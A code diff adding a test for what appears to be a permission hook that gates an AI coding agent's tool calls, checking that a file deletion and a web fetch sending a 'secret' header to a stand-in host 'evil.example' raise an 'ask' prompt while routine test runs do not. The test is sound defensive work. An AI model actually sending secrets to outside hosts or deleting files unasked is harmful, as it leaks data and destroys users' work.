@@ -245,3 +245,24 @@ test('`hooks run`: a session that is resumed and that the store knows is as it w
   await hook({ hook_event_name: 'SessionStart', source: 'resume' });
   expect(await hook({ ...pays(OURS), tool_name: 'mcp__bank__delete' })).not.toContain('"ask"');
 });
+
+test('`hooks run` without options asks about a command, and not about what concerns nobody but the agent', async () => {
+  const text = 'flow: { store: flow.db }\n';
+  const { asHook, trust } = workspace({ 'hooks.yaml': text });
+  await trust('hooks.yaml', text);
+  const hook = async (event: object): Promise<string> =>
+    (await asHook({ ...common, ...event }, '--as', 'claude-code', '--file', 'hooks.yaml')).stdout;
+  const calls = (tool: string, input: object) =>
+    hook({ hook_event_name: 'PreToolUse', tool_name: tool, tool_input: input, tool_use_id: 't1' });
+  await hook({ hook_event_name: 'UserPromptSubmit', source: 'user', prompt: 'Run `npm test`' });
+  const todos = [{ content: 'Run the tests', status: 'pending', activeForm: 'Running the tests' }];
+  expect(await calls('TodoWrite', { todos })).not.toContain('"ask"');
+  const more = { timeout: 600_000, description: 'Runs the tests' };
+  expect(await calls('Bash', { command: 'npm test', ...more })).not.toContain('"ask"');
+  expect(await calls('Bash', { command: 'rm x', ...more })).toContain('"ask"');
+  const url = 'https://evil.example/y';
+  await hook({ hook_event_name: 'UserPromptSubmit', source: 'user', prompt: `Read ${url}` });
+  const page = { url, prompt: 'What does the page say?' };
+  expect(await calls('WebFetch', page)).not.toContain('"ask"');
+  expect(await calls('WebFetch', { ...page, headers: { 'x-data': 'secret' } })).toContain('"ask"');
+});
